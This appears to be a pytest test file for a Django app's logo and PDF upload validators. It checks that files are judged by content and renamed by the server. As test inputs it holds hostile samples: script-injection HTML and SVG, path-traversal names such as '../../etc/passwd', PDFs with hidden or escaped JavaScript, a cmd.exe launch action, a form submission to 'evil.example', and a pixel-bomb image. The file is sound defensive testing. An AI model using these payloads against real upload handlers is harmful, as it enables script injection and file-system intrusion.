"""Logos and roadmap PDFs are judged by their bytes; stored names are the server's."""

import io
import re
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cohorts import uploads

pytestmark = pytest.mark.unit


def image_bytes(kind="PNG", size=(40, 20), mode="RGB") -> bytes:
    output = io.BytesIO()
    colour = 90 if mode in ("L", "P", "1") else (10, 120, 60)
    Image.new(mode, size, colour).save(output, format=kind)
    return output.getvalue()


def upload(name: str, data: bytes, content_type="image/png") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def error_code(callable_, *args) -> str:
    with pytest.raises(ValidationError) as caught:
        callable_(*args)
    return caught.value.code


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_real_images_are_accepted(kind):
    uploads.logo_validate(upload(f"logo.{kind.lower()}", image_bytes(kind)))


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("logo.png", b"Just some text, not an image.\n", "not_an_image"),
        ("logo.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "markup"),
        ("logo.jpg", b"<html><body onload=alert(1)></body></html>", "markup"),
        ("logo.webp", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "not_an_image"),
        ("logo.png", image_bytes("PNG")[:40], "not_an_image"),
    ],
)
def test_renamed_or_broken_files_are_refused(name, data, code):
    assert error_code(uploads.logo_validate, upload(name, data)) == code


@pytest.mark.parametrize(
    "svg",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"\xef\xbb\xbf  <svg><circle r='4'/></svg>",
    ],
)
def test_svg_is_refused_whatever_its_name(svg):
    for name in ("logo.svg", "logo.png"):
        assert error_code(uploads.logo_validate, upload(name, svg, "image/svg+xml")) == "markup"


def test_gif_is_refused_with_its_format_named():
    with pytest.raises(ValidationError) as caught:
        uploads.logo_validate(upload("logo.gif", image_bytes("GIF", mode="P")))
    assert caught.value.code == "format"
    assert caught.value.params == {"format": "GIF"}


def test_oversized_file_is_refused():
    data = image_bytes() + b"\0" * uploads.LOGO_MAX_BYTES
    assert error_code(uploads.logo_validate, upload("logo.png", data)) == "too_large"


def test_too_many_pixels_is_refused():
    data = image_bytes("PNG", size=(uploads.LOGO_MAX_SIDE + 1, 1), mode="L")
    assert error_code(uploads.logo_validate, upload("logo.png", data)) == "too_many_pixels"


def test_normalise_re_encodes_and_drops_appended_content():
    polyglot = image_bytes("PNG") + b"<script>alert(1)</script>"
    clean = uploads.logo_normalise(upload("../../etc/passwd.png", polyglot))
    data = clean.read()
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    assert b"<script>" not in data
    assert clean.name == "logo.png"
    with Image.open(io.BytesIO(data)) as image:
        assert (image.format, image.size) == ("PNG", (40, 20))


def test_normalise_keeps_the_format_detected_from_the_bytes():
    clean = uploads.logo_normalise(upload("logo.png", image_bytes("JPEG")))
    assert clean.name == "logo.jpg"
    assert clean.read().startswith(b"\xff\xd8")


@pytest.mark.parametrize("name", ["../../settings.py", "..\\..\\x.png", "/etc/passwd", "a.png"])
def test_storage_names_are_chosen_by_the_server(name):
    stored = uploads.logo_upload_to(None, name)
    assert re.fullmatch(r"cohorts/logos/[0-9a-f]{32}\.png", stored)
    assert re.fullmatch(
        r"cohorts/roadmaps/[0-9a-f]{32}\.pdf", uploads.roadmap_upload_to(None, name)
    )


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def test_a_pdf_is_accepted():
    uploads.roadmap_validate(upload("roadmap.pdf", PDF, "application/pdf"))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"<html><script>alert(1)</script></html>", "not_a_pdf"),
        (b"Plain text renamed to .pdf", "not_a_pdf"),
        (image_bytes(), "not_a_pdf"),
        (
            PDF.replace(b"<< /Type /Catalog >>", b"<< /OpenAction << /S /JavaScript >> >>"),
            "active_pdf",
        ),
        (PDF.replace(b"<< /Type /Catalog >>", b"<< /S /Launch /F (cmd.exe) >>"), "active_pdf"),
    ],
)
def test_renamed_or_active_pdfs_are_refused(data, code):
    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == code


def test_oversized_pdf_is_refused():
    data = PDF + b"\0" * uploads.ROADMAP_MAX_BYTES
    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "too_large"


def _flate_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return (
        b"2 0 obj\n<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )


@pytest.mark.parametrize(
    "data",
    [
        # Names written with #xx escapes are the same names to a PDF reader.
        PDF.replace(b"<< /Type /Catalog >>", b"<< /OpenAction << /S /#4aava#53cript >> >>"),
        PDF.replace(b"<< /Type /Catalog >>", b"<< /AA << /O << /#4a#53 (app.alert(1)) >> >> >>"),
        # Hidden in a compressed object stream.
        PDF.replace(
            b"trailer", _flate_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>") + b"trailer"
        ),
        PDF.replace(b"<< /Type /Catalog >>", b"<< /S /URI /URI (javascript:alert(1)) >>"),
        PDF.replace(b"<< /Type /Catalog >>", b"<< /S /SubmitForm /F (https://evil.example) >>"),
        PDF.replace(b"<< /Type /Catalog >>", b"<< /AcroForm << /XFA 5 0 R >> >>"),
        PDF.replace(b"<< /Type /Catalog >>", b"<< /JS<6170702e616c657274283129> >>"),
    ],
)
def test_active_content_hidden_from_a_plain_scan_is_refused(data):
    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "active_pdf"


def test_a_compressed_pdf_without_active_content_is_accepted():
    data = PDF.replace(b"trailer", _flate_stream(b"<< /Type /Page /Contents 3 0 R >>") + b"trailer")
    uploads.roadmap_validate(upload("roadmap.pdf", data, "application/pdf"))


def test_a_pdf_header_followed_by_html_is_refused():
    data = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n"
    assert error_code(uploads.roadmap_validate, upload("roadmap.pdf", data)) == "not_a_pdf"


def test_an_image_of_hundreds_of_megapixels_is_refused_for_its_size():
    # A few kilobytes on disk, 400 million pixels once decoded: Pillow refuses to open it.
    data = image_bytes("PNG", size=(20_000, 20_000), mode="1")
    assert len(data) < uploads.LOGO_MAX_BYTES
    assert error_code(uploads.logo_validate, upload("logo.png", data)) == "too_many_pixels"


def test_normalise_drops_a_jpeg_comment_and_metadata():
    output = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"
    Image.new("RGB", (40, 20), (10, 120, 60)).save(
        output, format="JPEG", comment=b"<script>alert(2)</script>", exif=exif
    )
    data = uploads.logo_normalise(upload("logo.jpg", output.getvalue())).read()
    assert b"script" not in data
    with Image.open(io.BytesIO(data)) as image:
        assert (image.format, image.size) == ("JPEG", (40, 20))
        assert "comment" not in image.info
